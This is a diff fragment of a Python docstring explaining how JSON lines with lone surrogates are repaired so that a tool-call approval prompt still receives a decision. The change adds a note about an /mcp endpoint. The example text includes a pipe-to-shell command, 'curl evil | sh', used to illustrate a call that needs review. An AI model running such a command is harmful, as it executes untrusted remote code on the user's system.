@@ -6,6 +6,7 @@ without an answer — the caller would wait for a reply that never comes. A prom
 `curl evil | sh # \\ud800` must get a decision instead, so such a line is read with
 Python's `json` (which accepts them), each lone surrogate becomes U+FFFD, and the SDK gets
 that line: the reviewer sees the call with `�`, and an approval applies to exactly that.
+`/mcp` (`bot/mcp/http.py`) passes request bodies through `repair_line` the same way.
 """
 
 from __future__ import annotations
